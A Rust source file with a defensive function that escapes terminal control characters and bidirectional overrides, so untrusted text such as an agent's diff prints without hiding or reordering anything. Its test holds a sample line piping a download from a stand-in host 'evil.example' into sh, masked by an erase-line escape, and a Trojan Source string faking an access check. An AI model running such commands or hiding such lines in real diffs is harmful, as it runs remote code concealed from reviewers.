//! Text someone else wrote (an agent's diff, a question's title), made safe
//! to print on a terminal: a terminal obeys the control characters in what
//! it is given, so a file that adds `curl … | sh` could move the cursor,
//! erase the line and show `echo tidy` instead, and bidirectional overrides
//! reorder what is read (Trojan Source). Each such character is shown as
//! what it is, never obeyed.

use std::borrow::Cow;

/// Whether `c` would act on a terminal rather than be shown: a C0 or C1
/// control (but a line feed or a tab), DEL, or a character that reorders
/// or hides text (bidirectional embeddings, overrides and isolates, zero
/// width joiners aside).
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// `text` with every character that would act on a terminal shown as its
/// escape (`\x1b`, `\r`, `\u{202e}`); text with none is returned as it
/// is.
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(acts) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if !acts(c) {
            shown.push(c);
        } else if c == '\r' {
            shown.push_str("\\r");
        } else if u32::from(c) < 0x100 {
            shown.push_str(&format!("\\x{:02x}", u32::from(c)));
        } else {
            shown.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        }
    }
    Cow::Owned(shown)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_act_on_a_terminal_is_shown_and_the_rest_kept() {
        // A line that, printed raw, erases itself and shows another.
        let hidden = "+curl evil.example | sh\r\x1b[2K+echo tidy\n";
        assert_eq!(
            printable(hidden),
            "+curl evil.example | sh\\r\\x1b[2K+echo tidy\n"
        );
        assert_eq!(
            printable("access = \"user\u{202e} \u{2066}// admin\u{2069}\u{2066}\""),
            "access = \"user\\u{202e} \\u{2066}// admin\\u{2069}\\u{2066}\""
        );
        assert_eq!(printable("\u{9b}31m C1 \x7f"), "\\x9b31m C1 \\x7f");
        let plain = "fn main() {\n\tprintln!(\"héllo → ✓\");\n}\n";
        assert!(matches!(printable(plain), Cow::Borrowed(_)), "kept as is");
    }
}
